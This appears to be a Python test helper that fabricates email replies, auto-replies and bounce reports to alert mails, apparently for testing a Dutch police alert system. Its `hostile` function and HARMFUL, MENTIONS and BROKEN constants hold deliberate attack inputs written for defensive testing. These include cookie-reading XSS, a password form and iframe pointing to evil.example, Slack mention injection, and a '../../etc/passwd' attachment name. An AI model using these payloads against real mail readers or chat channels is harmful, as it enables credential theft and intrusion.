"""Answers as citizens' mail programs write them, and the mails that come instead of an answer.

Every function takes an alert as it was received (a `SentMail`, or any `EmailMessage`) and gives a raw message with
CRLF line ends, addressed to the alert's From, the answer address:

    reply_from(mail, "Ik zag een grijze bus.", client="outlook", html=True)

`now` is the moment of the answer, the clock's own where it is left out. The alert is dated by its Date header, else
47 minutes before the answer.
"""

import mimetypes
import re
import secrets
import textwrap
from collections.abc import Iterable
from datetime import UTC, datetime, timedelta
from email.headerregistry import Address
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import format_datetime, parseaddr, parsedate_to_datetime
from html import escape
from typing import Final, Literal
from zoneinfo import ZoneInfo

from babel.dates import format_datetime as told

from tests.doubles.mail_clients import CLIENTS, RULE, Client, ClientName, Language
from tests.doubles.sendgrid import SentMail

Quote = Literal["above", "below", "between"]
Hostility = Literal["mentions", "html", "five_megabytes", "broken_mime"]
Received = SentMail | EmailMessage

HERE: Final = ZoneInfo("Europe/Amsterdam")
# A Message-ID longer than a line must not be folded into encoded words.
WIRE: Final = SMTP.clone(max_line_length=998)


def reply_from(
    mail: Received,
    words: str,
    client: ClientName = "gmail",
    quote: Quote | None = "below",
    html: bool = False,
    attachments: Iterable[tuple[str, bytes]] = (),
    lang: Language = "nl",
    sender: str = "",
    now: datetime | None = None,
) -> bytes:
    """An answer with these words; the quoted alert stands below them, above them, around them or is left out.

    `html` adds the HTML part such a program sends beside the text; attachments are file names with their content;
    `sender` answers from another address than the one that got the alert.
    """
    alert, how, moment = _email(mail), CLIENTS[client], now or datetime.now(UTC)
    reply = _answer(alert, how.prefix, sender, moment)
    for name, value in how.headers.items():
        reply[name] = value
    head = _attribution(alert, how.attribution[lang], lang, moment)
    text = _arranged(words, how.signature[lang], _quoted(alert, head, how), quote)
    charset = how.charset if _fits(text, how.charset) else "utf-8"
    reply.set_content(text, charset=charset, cte=how.encoding)
    if html:
        reply.add_alternative(_page(words, alert, head, how, quote), subtype="html", cte="quoted-printable")
    for name, content in attachments:
        kind = (mimetypes.guess_type(name)[0] or "application/octet-stream").split("/")
        reply.add_attachment(content, maintype=kind[0], subtype=kind[1], filename=name)
    return reply.as_bytes()


def out_of_office(mail: Received, lang: Language = "nl", now: datetime | None = None) -> bytes:
    """An automatic answer, marked as RFC 3834 and Exchange mark it; nothing is quoted."""
    prefix, words = {
        "nl": ("Automatisch antwoord: ", "Ik ben afwezig tot en met 2 februari en lees mijn mail niet."),
        "en": ("Automatic reply: ", "I am out of office until 2 February and do not read my mail."),
    }[lang]
    reply = _answer(_email(mail), prefix, "", now or datetime.now(UTC))
    reply["Auto-Submitted"] = "auto-replied"
    reply["X-Auto-Response-Suppress"] = "All"
    reply.set_content(words)
    return reply.as_bytes()


def bounce(mail: Received, status: str = "5.1.1", now: datetime | None = None) -> bytes:
    """A delivery report of a mail that could not be delivered (RFC 3464); its envelope sender is to be empty."""
    alert = _email(mail)
    to, ours = _address(alert, "To"), _address(alert, "From")
    words = {"to": to, "ours": ours, "host": f"mx.{to.rpartition('@')[2]}", "status": status}
    words |= {"date": format_datetime(now or datetime.now(UTC)), "id": secrets.token_hex(8)}
    words["action"] = "delayed" if status.startswith("4") else "failed"
    return REPORT.format(**words).replace("\n", "\r\n").encode() + alert.as_bytes(policy=WIRE) + b"\r\n--report--\r\n"


def hostile(mail: Received, kind: Hostility) -> bytes:
    """A mail that tries to do harm: to Slack, to a browser, to a parser, or by its size."""
    if kind == "mentions":
        return reply_from(
            mail, "<!here> <!channel> <@U0> *bold* `code` <https://evil.example|politie.nl> &lt;!here&gt;"
        )
    if kind == "five_megabytes":
        return reply_from(mail, "Ik zag een busje. " + "nog een regel over dat busje\n" * 180_000, client="apple")
    alert = _email(mail)
    if kind == "broken_mime":
        head = (
            f"From: {_address(alert, 'To')}\r\nTo: {_address(alert, 'From')}\r\nIn-Reply-To: {alert['Message-ID']}\r\n"
        )
        return head.encode() + BROKEN
    reply = _answer(alert, "Re: ", "", datetime.now(UTC))
    reply.set_content(HARMFUL, subtype="html")
    return reply.as_bytes()


REPORT: Final = """Return-Path: <>
From: Mail Delivery System <MAILER-DAEMON@{host}>
To: {ours}
Subject: Undelivered Mail Returned to Sender
Date: {date}
Message-ID: <{id}@{host}>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="report"

--report
Content-Type: text/plain; charset=us-ascii

I'm sorry to have to inform you that your message could not be delivered to {to}.

--report
Content-Type: message/delivery-status

Reporting-MTA: dns; {host}

Final-Recipient: rfc822; {to}
Action: {action}
Status: {status}
Diagnostic-Code: smtp; 550 {status} <{to}>: Recipient address rejected

--report
Content-Type: message/rfc822

"""
MENTIONS: Final = "<!here> <!channel> <@U0> *bold* `code` <https://evil.example|politie.nl> &lt;!here&gt;"
HARMFUL: Final = """<html><head><script>alert(document.cookie)</script><style>body{display:none}</style></head>
<body onload="alert(1)"><p>Ik zag een <b>grijze bus</b>.</p><img src=x onerror="alert(2)"><svg/onload=alert(3)>
<a href="javascript:alert(4)">foto</a><iframe src="https://evil.example/"></iframe><img src="https://evil.example/p">
<form action="https://evil.example/"><input name="wachtwoord"></form></body></html>
"""
# 8-bit headers without a charset, no such charset, no such encoding, base64 that is none, a part that never ends.
BROKEN: Final = b"""Subject: Caf\xe9 gezien\xff
Message-ID: <kapot
Date: gisteren
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="a"

--a
Content-Type: text/plain; charset=x-unknown-9
Content-Transfer-Encoding: 8bit

Ik zag een busje bij het caf\xe9.
--a
Content-Type: text/plain; charset="utf-8
Content-Transfer-Encoding: base64

%%%%a
--a
Content-Type: multipart/alternative; boundary="b"

--b
Content-Type: image/jpeg; name="../../etc/passwd"
Content-Transfer-Encoding: x-none

\xff\xd8\xff
"""


def _email(mail: Received) -> EmailMessage:
    return mail.as_email() if isinstance(mail, SentMail) else mail


def _address(alert: EmailMessage, header: str) -> str:
    return parseaddr(str(alert[header]))[1]


def _answer(alert: EmailMessage, prefix: str, sender: str, moment: datetime) -> EmailMessage:
    """The headers every answer has."""
    citizen, subject = sender or _address(alert, "To"), str(alert["Subject"])
    reply = EmailMessage(WIRE)
    reply["From"] = Address(citizen.partition("@")[0].capitalize(), addr_spec=citizen)
    reply["To"] = Address(addr_spec=_address(alert, "From"))
    reply["Subject"] = subject if re.match(r"(?i)(re|antw):", subject) and prefix.endswith(": ") else prefix + subject
    reply["Date"] = format_datetime(moment.astimezone(HERE))
    reply["Message-ID"] = f"<{secrets.token_hex(12)}@{citizen.rpartition('@')[2]}>"
    if alert["Message-ID"]:
        reply["In-Reply-To"] = str(alert["Message-ID"])
        reply["References"] = f"{alert['References'] or ''} {alert['Message-ID']}".strip()
    return reply


def _attribution(alert: EmailMessage, pattern: str, lang: Language, moment: datetime) -> str:
    """The words above a quote: names filled in, everything else in braces is a date pattern of the alert's moment."""
    dated = str(alert["Date"] or "")
    sent = (parsedate_to_datetime(dated) if dated else moment - timedelta(minutes=47)).astimezone(HERE)
    name, address = parseaddr(str(alert["From"]))
    words = {"name": name or address, "address": address, "to": _address(alert, "To"), "zone": f"{sent:%Z}"}
    words["subject"] = str(alert["Subject"])
    locale = {"nl": "nl_NL", "en": "en_GB"}[lang]

    def fill(braced: re.Match[str]) -> str:
        known = words.get(braced[1])
        return told(sent, braced[1], tzinfo=HERE, locale=locale) if known is None else known

    return re.sub(r"\{([^{}]+)\}", fill, pattern)


def _text_of(alert: EmailMessage) -> str:
    body = alert.get_body(("plain",))
    return body.get_content().rstrip() if body else ""


def _html_of(alert: EmailMessage) -> str:
    body = alert.get_body(("html",))
    return body.get_content() if body else f"<pre>{escape(_text_of(alert))}</pre>"


def _quoted(alert: EmailMessage, head: str, how: Client) -> tuple[str, str]:
    """Attribution and marked original in two halves; a program that breaks lines marks each piece."""
    heads = [(how.mark if how.quoted_attribution else "") + line for line in head.splitlines()]
    gap = [how.mark.rstrip() if how.quoted_attribution else ""] if head.endswith("\n") else []
    lines = [(how.mark + piece).rstrip() for line in _text_of(alert).splitlines() for piece in _broken(line, how)]
    half = len(lines) // 2
    return "\n".join([*heads, *gap, *lines[:half]]), "\n".join(lines[half:])


def _broken(line: str, how: Client) -> list[str]:
    if not how.width:
        return [line]
    return textwrap.wrap(line, how.width - len(how.mark), break_long_words=False, break_on_hyphens=False) or [""]


def _arranged(words: str, signature: str, halves: tuple[str, str], quote: Quote | None) -> str:
    own, quoted = [words, signature], ["\n".join(halves)]
    parts = {
        None: own,
        "below": own + quoted,
        "above": quoted + own,
        "between": [halves[0], words, halves[1], signature],
    }
    return "\n\n".join(part for part in parts[quote] if part) + "\n"


def _page(words: str, alert: EmailMessage, head: str, how: Client, quote: Quote | None) -> str:
    """The same as HTML; words inside a quote stand between two halves of it only in the text, here behind it."""
    own = f'<div dir="ltr">{escape(words).replace(chr(10), "<br>")}</div>'
    closing = f"</{how.blockquote.split()[0].strip('<>')}>"
    above = escape(head.replace(RULE, "").strip()).replace("\n", "<br>")
    if how.mark:
        quoted = f"<br><div>{above}<br></div>{how.blockquote}{_html_of(alert)}{closing}"
    else:
        quoted = f"<hr>{how.blockquote}{above}{closing}{_html_of(alert)}"
    parts = {None: own, "below": own + quoted, "above": quoted + own, "between": quoted + own}
    return f"<html><body>{parts[quote]}</body></html>\n"


def _fits(text: str, charset: str) -> bool:
    try:
        text.encode(charset)
    except UnicodeEncodeError:
        return False
    return True
